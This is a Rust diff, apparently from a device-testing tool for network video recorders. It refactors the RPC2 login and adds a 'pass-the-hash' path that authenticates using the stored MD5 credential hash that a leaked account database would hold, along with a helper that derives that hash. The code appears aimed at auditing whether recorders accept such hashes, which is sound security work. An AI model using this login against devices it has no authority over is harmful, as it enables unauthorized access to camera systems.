@@ -169,47 +169,58 @@ impl Rpc2Session {
         client_type: &str,
         login_type: &str,
     ) -> Result<Self, DeviceError> {
+        Self::login_proving(target, &creds.user, Proof::Password(&creds.password), client_type, login_type).await
+    }
+
+    /// Log in as the vendor's web UI does, but answer the challenge from a stored hash
+    /// (`UPPER(MD5(user:realm:password))`, what the firmware keeps and a leaked account database
+    /// holds) instead of the password: the published pass-the-hash attack on this family. On the
+    /// wire it is an ordinary login; whether it gets in says which hashes the recorder still takes.
+    pub async fn login_with_stored_hash(target: &Target, user: &str, stored: &Secret) -> Result<Self, DeviceError> {
+        Self::login_proving(target, user, Proof::StoredHash(stored), WEB_CLIENT_TYPE, "Direct").await
+    }
+
+    /// The hash this recorder stores for `creds` (`UPPER(MD5(user:realm:password))` with the realm
+    /// its login challenge announces): what a leak of its account database would reveal. Asks for
+    /// a challenge only; no login is attempted, so nothing counts against the account.
+    pub async fn stored_hash(target: &Target, creds: &Credentials) -> Result<Secret, DeviceError> {
         let client = target.shared().http();
-        let first = json!({
-            "method": "global.login",
-            "params": {"userName": creds.user, "password": "", "clientType": client_type, "loginType": login_type},
-            "id": 1,
-        });
-        // One deadline for both steps: the login is one call.
-        let call = Call::start(Interface::Rpc2, describe("/RPC2_Login", &first), target);
-        let reply = post(&client, &call, target, "/RPC2_Login", &first).await?;
-        if reply.1.succeeded() {
-            let session = reply.1.session.clone().ok_or_else(|| no_session(&call, &reply.0))?;
-            return Ok(Self::new(target, client, session));
-        }
-        if !matches!(reply.1.error, Some((codes::LOGIN_CHALLENGE, _))) {
-            return Err(call.fail(login_error(&reply.1)).with_reply(&reply.0));
-        }
-        let field = |name: &str| reply.1.params.get(name).and_then(Value::as_str).map(str::to_owned);
-        let (Some(realm), Some(random)) = (field("realm"), field("random")) else {
+        let (call, reply) = challenge(&client, target, &creds.user, WEB_CLIENT_TYPE, "Direct").await?;
+        let Some(Challenge { realm, .. }) = read_challenge(&call, &reply)? else {
             return Err(call
                 .fail(ErrorKind::Protocol {
-                    detail: "login challenge without `realm` and `random`".into(),
+                    detail: "a session was granted on the password-less first call; no realm to read".into(),
                     excerpt: String::new(),
                 })
                 .with_reply(&reply.0));
         };
-        let encryption = field("encryption").unwrap_or_else(|| "Default".into());
-        if encryption != "Default" {
-            return Err(call
-                .fail(ErrorKind::Protocol {
-                    detail: format!(
-                        "login challenge asks for encryption `{encryption}`; only `Default` is implemented"
-                    ),
-                    excerpt: String::new(),
-                })
-                .with_reply(&reply.0));
-        }
-        let hash = Secret::new(resetlab_wire::rpc2::login_hash(&creds.user, &realm, &random, creds.password.expose()));
+        Ok(Secret::new(resetlab_wire::rpc2::stored_hash(&creds.user, &realm, creds.password.expose())))
+    }
+
+    async fn login_proving(
+        target: &Target,
+        user: &str,
+        proof: Proof<'_>,
+        client_type: &str,
+        login_type: &str,
+    ) -> Result<Self, DeviceError> {
+        let client = target.shared().http();
+        // One deadline for both steps: the login is one call.
+        let (call, reply) = challenge(&client, target, user, client_type, login_type).await?;
+        let Some(Challenge { realm, random }) = read_challenge(&call, &reply)? else {
+            let session = reply.1.session.clone().ok_or_else(|| no_session(&call, &reply.0))?;
+            return Ok(Self::new(target, client, session));
+        };
+        let hash = Secret::new(match proof {
+            Proof::Password(p) => resetlab_wire::rpc2::login_hash(user, &realm, &random, p.expose()),
+            Proof::StoredHash(h) => {
+                resetlab_wire::rpc2::login_hash_from_stored(user, &random, &h.expose().to_ascii_uppercase())
+            }
+        });
         let mut second = json!({
             "method": "global.login",
             "params": {
-                "userName": creds.user,
+                "userName": user,
                 "password": hash.expose(),
                 "clientType": client_type,
                 "loginType": login_type,
@@ -228,7 +239,7 @@ impl Rpc2Session {
         }
         let session =
             answer.1.session.clone().or(reply.1.session.clone()).ok_or_else(|| no_session(&call, &answer.0))?;
-        tracing::debug!(user = %creds.user, client_type, "RPC2 login accepted");
+        tracing::debug!(user, client_type, "RPC2 login accepted");
         Ok(Self::new(target, client, session))
     }
 
@@ -273,6 +284,67 @@ impl Rpc2Session {
     pub async fn logout(self) -> Result<(), DeviceError> {
         self.call("global.logout", Value::Null).await.map(drop)
     }
+}
+
+/// What a login's second call is computed from.
+#[derive(Clone, Copy)]
+enum Proof<'a> {
+    Password(&'a Secret),
+    /// `UPPER(MD5(user:realm:password))`, as the firmware stores it.
+    StoredHash(&'a Secret),
+}
+
+/// The first `global.login` answer's `realm` and `random`.
+struct Challenge {
+    realm: String,
+    random: String,
+}
+
+/// The password-less first `global.login` call.
+async fn challenge(
+    client: &reqwest::Client,
+    target: &Target,
+    user: &str,
+    client_type: &str,
+    login_type: &str,
+) -> Result<(Call, (String, Rpc2Reply)), DeviceError> {
+    let first = json!({
+        "method": "global.login",
+        "params": {"userName": user, "password": "", "clientType": client_type, "loginType": login_type},
+        "id": 1,
+    });
+    let call = Call::start(Interface::Rpc2, describe("/RPC2_Login", &first), target);
+    let reply = post(client, &call, target, "/RPC2_Login", &first).await?;
+    Ok((call, reply))
+}
+
+/// The challenge in a first answer; `None` when that answer already granted a session.
+fn read_challenge(call: &Call, reply: &(String, Rpc2Reply)) -> Result<Option<Challenge>, DeviceError> {
+    if reply.1.succeeded() {
+        return Ok(None);
+    }
+    if !matches!(reply.1.error, Some((codes::LOGIN_CHALLENGE, _))) {
+        return Err(call.fail(login_error(&reply.1)).with_reply(&reply.0));
+    }
+    let field = |name: &str| reply.1.params.get(name).and_then(Value::as_str).map(str::to_owned);
+    let (Some(realm), Some(random)) = (field("realm"), field("random")) else {
+        return Err(call
+            .fail(ErrorKind::Protocol {
+                detail: "login challenge without `realm` and `random`".into(),
+                excerpt: String::new(),
+            })
+            .with_reply(&reply.0));
+    };
+    let encryption = field("encryption").unwrap_or_else(|| "Default".into());
+    if encryption != "Default" {
+        return Err(call
+            .fail(ErrorKind::Protocol {
+                detail: format!("login challenge asks for encryption `{encryption}`; only `Default` is implemented"),
+                excerpt: String::new(),
+            })
+            .with_reply(&reply.0));
+    }
+    Ok(Some(Challenge { realm, random }))
 }
 
 /// `POST /RPC2 {…redacted JSON…}`.
